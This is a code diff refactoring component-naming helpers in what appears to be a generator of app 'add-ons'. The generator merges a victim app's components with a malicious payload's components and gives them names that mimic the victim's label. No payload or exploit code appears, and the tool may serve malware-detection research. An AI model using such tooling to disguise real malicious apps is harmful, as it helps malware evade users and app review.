@@ -74,7 +74,10 @@ def _correlated_name(name: str, victim_label: str) -> str:
 
 
 def _named(comp: Component, name: str) -> Component:
-    return comp if name == comp.name else replace(comp, name=name)
+    if name == comp.name:
+        return comp
+    return Component(name, comp.kind, comp.launcher, comp.intents,
+                     comp.requires_permissions, comp.payload, comp.stub)
 
 
 def step1_permissions(victim: AppManifest, addon_template: AppManifest) -> AppManifest:
@@ -128,28 +131,28 @@ def step3_components(
     by_kind: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}
     payload: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}
 
-    def place(comp: Component) -> str:
-        name = comp.name
-        k = 0
-        while name in used:
+    def free(name: str) -> str:
+        final, k = name, 0
+        while final in used:
             k += 1
-            name = f"{comp.name}_c{k}"
-        used.add(name)
-        by_kind[comp.kind].append(_named(comp, name))
-        return name
+            final = f"{name}_c{k}"
+        used.add(final)
+        return final
 
     # Victim and payload components enter the add-on with their name, kind
     # and intents only: launcher flags and catalog bookkeeping are dropped
     # so the add-on keeps a single launcher of its own.
     for comp in victim.components():
-        place(Component(comp.name, comp.kind, intents=comp.intents))
+        by_kind[comp.kind].append(Component(free(comp.name), comp.kind, intents=comp.intents))
     for comp in malicious.components():
-        name = place(Component(comp.name, comp.kind, intents=comp.intents))
+        name = free(comp.name)
+        by_kind[comp.kind].append(Component(name, comp.kind, intents=comp.intents))
         payload[comp.kind].append(_named(comp, name))
 
     rename_map: dict[str, str] = {}
     for comp in addon.components():
-        rename_map[comp.name] = place(_named(comp, _correlated_name(comp.name, victim.label)))
+        name = rename_map[comp.name] = free(_correlated_name(comp.name, victim.label))
+        by_kind[comp.kind].append(_named(comp, name))
 
     return (_with_components(addon, by_kind), rename_map,
             _with_components(malicious, payload))
